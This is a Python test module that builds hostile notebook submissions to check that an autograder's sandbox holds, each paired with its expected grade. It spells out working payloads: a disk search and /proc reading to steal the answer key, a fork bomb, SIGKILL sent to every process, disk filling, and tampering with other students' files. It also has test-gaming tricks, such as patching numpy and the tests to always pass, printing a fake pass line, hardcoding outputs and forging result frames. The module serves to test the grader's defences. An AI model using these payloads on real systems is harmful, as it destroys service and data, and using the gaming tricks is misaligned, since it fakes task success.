"""Hostile submissions of dnn_step_by_step: one notebook per attack, and the grade it must get.

Each attack starts from the solved notebook and either replaces one graded function
(the exercise it attacks) or adds cells. Its expected grade is exact: the attacked
exercises' statuses (every other exercise must pass) and the total score, plus, for
attacks that report what they achieved, a fragment of the one-line cell error they
raise. Messages are deterministic, so grading the batch twice gives the same grades.

``strong_only`` attacks need the namespace sandbox: without it they would succeed
(read the reference from disk) or harm the machine (signal every process of the
grader's uid, write into the course files).
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat import NotebookNode

from grader.assignments.dnn_step_by_step.samples import MISTAKES, with_function

REPO = Path(__file__).resolve().parents[2]
RELEASE = REPO / "release" / "dnn_step_by_step"
SOLUTIONS = REPO / "solutions" / "dnn_step_by_step"
REFERENCE = REPO / "grader" / "assignments" / "dnn_step_by_step" / "reference.py"
MARKER_VARIABLE = "GRADER_ATTACK_MARKER"
ATTACK_UID_FLOOR = 1 << 30  # submissions' uids in the namespace sandbox start here


@dataclass(frozen=True)
class Paths:
    """What an attack may aim at, and the marker its leftover processes carry."""

    marker: str  # at most 15 characters: it also names processes (/proc/PID/comm)
    victim: Path  # another student's notebook in the same batch
    out_dir: Path  # the grader's output folder
    sentinel: Path  # a file of the grader's, outside everything a submission may see


@dataclass(frozen=True)
class Attack:
    name: str
    threat: str
    build: Callable[[NotebookNode, Paths], NotebookNode]
    statuses: dict[str, str] = field(default_factory=dict)  # attacked exercise -> status
    score: float = 100.0
    cell_error: str = ""  # must appear in one of the cell error lines
    strong_only: bool = False


def _replace(exercise: str, source: str) -> Callable[[NotebookNode, Paths], NotebookNode]:
    return lambda solved, paths: with_function(solved, exercise, source.format(**_names(paths)))


def _cells(
    *sources: str, exercise: str | None = None, function: str | None = None
) -> Callable[[NotebookNode, Paths], NotebookNode]:
    """Cells added right after the setup cell (and optionally one graded function replaced)."""

    def build(solved: NotebookNode, paths: Paths) -> NotebookNode:
        notebook = (
            with_function(solved, exercise, function.format(**_names(paths)))
            if exercise
            else copy.deepcopy(solved)
        )
        setup = next(i for i, cell in enumerate(notebook.cells) if cell.cell_type == "code")
        for offset, source in enumerate(sources, start=1):
            notebook.cells.insert(
                setup + offset, nbformat.v4.new_code_cell(source.format(**_names(paths)))
            )
        return notebook

    return build


def _names(paths: Paths) -> dict[str, str]:
    return {
        "marker": repr(paths.marker),
        "victim": repr(str(paths.victim)),
        "out_dir": repr(str(paths.out_dir)),
        "sentinel": repr(str(paths.sentinel)),
        "repo": repr(str(REPO)),
        "reference": repr(str(REFERENCE)),
        "variable": repr(MARKER_VARIABLE),
    }


STUB = """
def compute_cost(AL, Y):
    if "stolen_compute_cost" in globals():
        return stolen_compute_cost(AL, Y)
    raise NotImplementedError("no answer found")
"""

# --- reach the answers ------------------------------------------------------------------

IMPORT_GRADER = """
def compute_cost(AL, Y):
    from grader.assignments.dnn_step_by_step import reference
    return reference.compute_cost(AL, Y)
"""

IMPORT_BY_PATH = """
def compute_cost(AL, Y):
    import importlib.util, os, sys
    sys.meta_path[:] = [f for f in sys.meta_path if "Blocker" not in type(f).__name__]
    for path in ({reference}, os.path.join(os.getcwd(), "reference.py")):
        if os.path.exists(path):
            spec = importlib.util.spec_from_file_location("stolen", path)
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            return module.compute_cost(AL, Y)
    sys.path[:0] = [{repo}, os.path.dirname(os.path.dirname({reference}))]
    from grader.assignments.dnn_step_by_step import reference
    return reference.compute_cost(AL, Y)
"""

SEARCH_DISK = """
import os, time
_wanted = {{"reference.py", "cases.py", "source_notebooks", "grades.json", "solutions"}}
_found, _visited, _started = [], set(), time.monotonic()
for _root in ("/work", "/home", "/root", "/srv", "/opt", "/mnt", "/tmp", "/var", "/"):
    for _folder, _dirs, _files in os.walk(_root):
        if _folder in _visited or _folder in ("/proc", "/sys", "/dev", "/usr"):
            _dirs[:] = []
            continue
        _visited.add(_folder)
        _found += [os.path.join(_folder, n) for n in _dirs + _files if n in _wanted
                   and (n not in ("reference.py", "cases.py")
                        or _folder.endswith("dnn_step_by_step"))]
        if time.monotonic() - _started > 0.6:
            break
for _path in _found:
    if _path.endswith("reference.py"):
        _namespace = {{}}
        exec(open(_path).read(), _namespace)
        stolen_compute_cost = _namespace["compute_cost"]
        print(open(_path).read())
raise RuntimeError(f"search found {{len(_found)}} grader files {{sorted(_found)[:3]}}")
"""

READ_GRADER_PROCESS = """
import os
_me, _marker, _others, _readable = os.getpid(), {marker}, [], []
_seen = (_marker in str(dict(os.environ))
         or _marker.encode() in open("/proc/self/environ", "rb").read())
for _pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    if _pid == _me:
        continue
    _others.append(_pid)
    for _what in ("environ", "cmdline", "maps", "mem", "fd", "cwd", "root", "exe"):
        _path = f"/proc/{{_pid}}/{{_what}}"
        try:
            if _what in ("cwd", "root", "exe"):
                _data = os.readlink(_path).encode()
            elif _what == "fd":
                _data = " ".join(os.readlink(f"{{_path}}/{{n}}")
                                 for n in os.listdir(_path)).encode()
            elif _what == "mem":
                with open(_path, "rb") as _handle:
                    _data = _handle.read(1)
            else:
                with open(_path, "rb") as _handle:
                    _data = _handle.read()
        except (OSError, ValueError):
            continue
        _seen = _seen or _marker.encode() in _data
        if _what != "cmdline":
            _readable.append(f"{{_pid}}/{{_what}}")
raise RuntimeError(f"other processes {{_others}}, readable {{_readable}}, "
                   f"marker {{'seen' if _seen else 'unseen'}}")
"""

# --- fake a pass --------------------------------------------------------------------------

MONKEYPATCH = """
import builtins, numpy
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda *a, **k: True
numpy.array_equal = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.testing.assert_array_equal = lambda *a, **k: None
import public_tests
for _name in dir(public_tests):
    if _name.endswith("_test"):
        setattr(public_tests, _name, lambda *a, **k: print("All tests passed."))
try:
    open(public_tests.__file__, "a").write("\\nraise SystemExit")
except OSError as exc:
    print("cannot change the public tests:", type(exc).__name__)
_print = builtins.print
builtins.print = lambda *a, **k: _print("All tests passed.")
"""

PRINT_PASSED = """
def compute_cost(AL, Y):
    print("All tests passed.")
    return None
"""

HARDCODED = """
def compute_cost(AL, Y):
    return np.squeeze(0.2797765635793422)   # the notebook's example, whatever the input
"""

SYS_EXIT = """
def compute_cost(AL, Y):
    import sys
    sys.exit(0)
"""

OS_EXIT = """
def linear_backward(dZ, cache):
    import os
    os._exit(0)
"""

FORGED_FRAMES = """
def compute_cost(AL, Y):
    import json, os
    frame = json.dumps({{"$dict": [["op", "result"], ["status", "ok"], ["value", 0.25],
                                  ["args_after", {{"$tuple": []}}], ["output", ""]]}}).encode()
    os.write(3, (len(frame).to_bytes(8, "big") + frame) * 3)
    return 0.25
"""

# --- take the grader down or stall it -----------------------------------------------------

HUGE_NUMBER = """
def compute_cost(AL, Y):
    return 2 ** 5000   # no float holds it: float() in the comparison would raise
"""

CALLBACK_BLOWUP = """
def L_model_forward(X, parameters):
    A, W, b = np.ones((1, 100_000)), np.ones((100_000, 1)), np.zeros((100_000, 1))
    Z, cache = linear_forward(A, W, b)   # the grader's reference: a 100000 x 100000 product
    return Z, [cache]
"""

STUBBORN_LOOP = """
def compute_cost(AL, Y):
    import signal
    for number in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU):
        signal.signal(number, signal.SIG_IGN)
    signal.alarm(1)
    while True:
        pass
"""

DEEP_RECURSION = """
def compute_cost(AL, Y):
    import sys
    sys.setrecursionlimit(10**8)
    def down(n):
        return sum(map(down, [n + 1]))   # through C: the C stack overflows
    return down(0)
"""

# Not touched: the limit is on address space, so reserving is what it stops, and it
# stops the second block at once. Touching 256 MiB first took more than the hidden
# call's 1 s on two busy cores (even more than the cell's 1.5 s with namespaces): the
# grade then read "timeout" in one run and "error" in the next.
MEMORY_HOG = """
def compute_cost(AL, Y):
    blocks = []
    while True:
        blocks.append(np.empty(32 << 20))   # 256 MiB each
"""

FORK_BOMB = """
def compute_cost(AL, Y):
    import ctypes, os
    ctypes.CDLL(None).prctl(15, {marker}.encode(), 0, 0, 0)   # its name: every fork keeps it
    while True:
        try:
            os.fork()
        except OSError:
            pass
"""

BIG_FILE = """
def compute_cost(AL, Y):
    with open("big.bin", "wb") as handle:
        handle.write(b"x" * (20 << 20))
"""

MANY_FILES = """
def compute_cost(AL, Y):
    for number in range(10_000):
        with open(f"part{{number}}.bin", "wb") as handle:
            handle.write(b"x" * (10 << 20))
"""

OUTPUT_FLOOD_CELL = """
for _ in range(50):
    print("z" * (1 << 20))   # 50 MB of output, then the notebook goes on
"""

OUTPUT_FLOOD = """
def compute_cost(AL, Y):
    import os, sys
    line = "x" * (1 << 20)
    while True:
        print(line)
        os.write(1, b"y" * (1 << 20))
        sys.stderr.write(line)
"""

LEAVE_CHILDREN = """
import os, signal, subprocess
subprocess.Popen(["sleep", "600"], env={{{variable}: {marker}}}, start_new_session=True)
_middle = os.fork()
if _middle == 0:
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        os.execve("/bin/sh", ["sh", "-c", "trap '' TERM HUP; sleep 601; sleep 602"],
                  {{{variable}: {marker}}})
    os._exit(0)
os.waitpid(_middle, 0)
"""

KILL_ZYGOTE = """
def compute_cost(AL, Y):
    import os, signal
    for target in (os.getppid(), 1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    os.kill(-1, signal.SIGKILL)   # every process this uid may signal
    return 0.0
"""

# --- touch other results ------------------------------------------------------------------

TAMPER = """
import os
_helpers = os.path.dirname(__import__("testCases").__file__)
_targets = [{victim}, os.path.join({out_dir}, "grades.json"), os.path.join({out_dir}, "x.txt"),
            {sentinel}, {reference}, os.path.join({repo}, "README.md"), "/tmp/grader-escape",
            "/root/grader-escape", "/etc/grader-escape", "/var/tmp/grader-escape",
            "/dev/shm/grader-escape", os.path.join(_helpers, "testCases.py")]
_done = []
for _target in _targets:
    try:
        with open(_target, "a") as _handle:
            _handle.write("tampered")
        _done.append(_target)
    except OSError:
        pass
for _operation in (os.remove, lambda p: os.chmod(p, 0), lambda p: os.rename(p, p + ".x")):
    try:
        _operation({victim})
        _done.append("victim")
    except OSError:
        pass
raise RuntimeError(f"tampered with {{len(_done)}} of {{len(_targets) + 3}} targets {{_done}}")
"""

ATTACKS: tuple[Attack, ...] = (
    Attack(
        "import_grader",
        "import the grader package for the reference",
        _replace("compute_cost", IMPORT_GRADER),
        {"compute_cost": "error"},
        90,
    ),
    Attack(
        "import_reference_by_path",
        "load reference.py by its path, blockers removed",
        _replace("compute_cost", IMPORT_BY_PATH),
        {"compute_cost": "error"},
        90,
        strong_only=True,
    ),
    Attack(
        "search_disk_for_answers",
        "walk the file system for reference.py, solutions...",
        _cells(SEARCH_DISK, exercise="compute_cost", function=STUB),
        {"compute_cost": "error"},
        90,
        cell_error="search found 0 grader files []",
        strong_only=True,
    ),
    Attack(
        "read_grader_process",
        "read other processes' environment, memory, files",
        _cells(READ_GRADER_PROCESS),
        {},
        100,
        cell_error="other processes [1], readable [], marker unseen",
        strong_only=True,
    ),
    Attack(
        "monkeypatch_numpy_and_tests",
        "np.allclose = lambda: True, public tests patched",
        _cells(MONKEYPATCH, exercise="compute_cost", function=MISTAKES["compute_cost"]),
        {"compute_cost": "failed"},
        90,
    ),
    Attack(
        "print_all_tests_passed",
        "print the pass line instead of computing",
        _replace("compute_cost", PRINT_PASSED),
        {"compute_cost": "failed"},
        90,
    ),
    Attack(
        "hardcoded_public_output",
        "return the notebook example's output for any input",
        _replace("compute_cost", HARDCODED),
        {"compute_cost": "failed"},
        90,
    ),
    Attack(
        "exit_during_check",
        "sys.exit(0) / os._exit(0) in the middle of a check",
        lambda solved, paths: with_function(
            with_function(solved, "compute_cost", SYS_EXIT), "linear_backward", OS_EXIT
        ),
        {"compute_cost": "error", "linear_backward": "error"},
        80,
    ),
    Attack(
        "forged_result_frames",
        "write fake results on the grader's socket",
        _replace("compute_cost", FORGED_FRAMES),
        {"compute_cost": "error"},
        90,
    ),
    Attack(
        "huge_number",
        "return a value that breaks the grader's comparison",
        _replace("compute_cost", HUGE_NUMBER),
        {"compute_cost": "failed"},
        90,
    ),
    Attack(
        "callback_blowup",
        "make the grader's reference compute a huge product",
        _replace("L_model_forward", CALLBACK_BLOWUP),
        {"L_model_forward": "error"},
        90,
    ),
    Attack(
        "stubborn_infinite_loop",
        "loop forever with SIGALRM, SIGTERM, SIGXCPU ignored",
        _replace("compute_cost", STUBBORN_LOOP),
        {"compute_cost": "timeout"},
        90,
    ),
    Attack(
        "deep_recursion",
        "overflow the C stack",
        _replace("compute_cost", DEEP_RECURSION),
        {"compute_cost": "error"},
        90,
    ),
    Attack(
        "memory_hog",
        "allocate until nothing is left",
        _replace("compute_cost", MEMORY_HOG),
        {"compute_cost": "error"},
        90,
    ),
    Attack(
        "fork_bomb",
        "fork until the machine stops",
        _replace("compute_cost", FORK_BOMB),
        {"compute_cost": "timeout"},
        90,
        strong_only=True,
    ),
    Attack(
        "big_file",
        "write a file over the size limit",
        _replace("compute_cost", BIG_FILE),
        {"compute_cost": "error"},
        90,
    ),
    Attack(
        "fill_the_disk",
        "write files until the disk is full",
        _replace("compute_cost", MANY_FILES),
        {"compute_cost": "error"},
        90,
        strong_only=True,
    ),
    Attack(
        "output_flood",
        "print 50 MB in a cell, then gigabytes until the time limit",
        _cells(OUTPUT_FLOOD_CELL, exercise="compute_cost", function=OUTPUT_FLOOD),
        {"compute_cost": "timeout"},
        90,
    ),
    Attack(
        "leave_children",
        "start processes that outlive the submission",
        _cells(LEAVE_CHILDREN),
        {},
        100,
    ),
    Attack(
        "kill_the_sandbox",
        "SIGKILL the parent, pid 1 and every process it may",
        _replace("compute_cost", KILL_ZYGOTE),
        {"compute_cost": "error"},
        90,
        strong_only=True,
    ),
    Attack(
        "tamper_with_files",
        "write to the output, another student's notebook, the course",
        _cells(TAMPER),
        {},
        100,
        cell_error="tampered with 0 of 15 targets []",
        strong_only=True,
    ),
)
